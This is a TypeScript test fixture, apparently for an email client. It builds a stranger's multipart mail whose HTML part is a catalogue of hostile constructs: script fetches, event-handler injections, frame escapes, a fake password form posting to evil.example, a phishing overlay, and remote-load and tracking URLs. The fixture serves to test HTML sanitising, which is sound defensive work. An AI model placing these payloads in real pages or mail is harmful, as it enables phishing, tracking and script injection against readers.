/** Servers that a hostile mail would like to reach. */
export const HOSTILE = /evil\.example/

/** What strangers put into HTML to run, load or get out of their frame, around a text that is shown. */
const HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/" target="_top">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); p { background: url(https://evil.example/c.png) } body { position: fixed }</style>
<script>top.document.title = 'hacked'; fetch('https://evil.example/d')</script>
</head><body onload="top.location = 'https://evil.example/onload'">
<p>Where is it?</p>
<img src="https://evil.example/pixel.png" srcset="https://evil.example/e.png 2x" onerror="top.document.title = 'hacked'">
<svg onload="top.document.title = 'hacked'"><image href="https://evil.example/f.png"/><script>top.document.title = 'hacked'</script></svg>
<iframe src="https://evil.example/g" srcdoc="<script>top.document.title = 'hacked'</script>"></iframe>
<object data="https://evil.example/h"></object><embed src="https://evil.example/i"><video poster="https://evil.example/j.png"></video>
<form action="https://evil.example/k"><input name="password" autofocus onfocus="top.document.title = 'hacked'"><button>Log in</button></form>
<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/l.png)">Session over</div>
<table background="https://evil.example/m.png"><tr><td>Cell</td></tr></table>
<a href="https://evil.example/bank" target="_top" ping="https://evil.example/ping">our bank</a>
<a href="javascript:top.document.title='hacked'">more</a>
</body></html>`

/** A mail of a stranger, as text and as hostile HTML. */
export const hostileMail = (subject: string): string =>
  [
    'From: Lee <lee@stranger.example>',
    'To: desk@quayside.example',
    `Subject: ${subject}`,
    'Date: Fri, 20 Nov 2026 10:00:00 +0000',
    `Message-ID: <${Date.now()}@stranger.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary=alt',
    ...['', '--alt', 'Content-Type: text/plain; charset=utf-8', '', 'Where is it?'],
    ...['--alt', 'Content-Type: text/html; charset=utf-8', '', ...HTML.split('\n'), '--alt--', ''],
  ].join('\r\n')
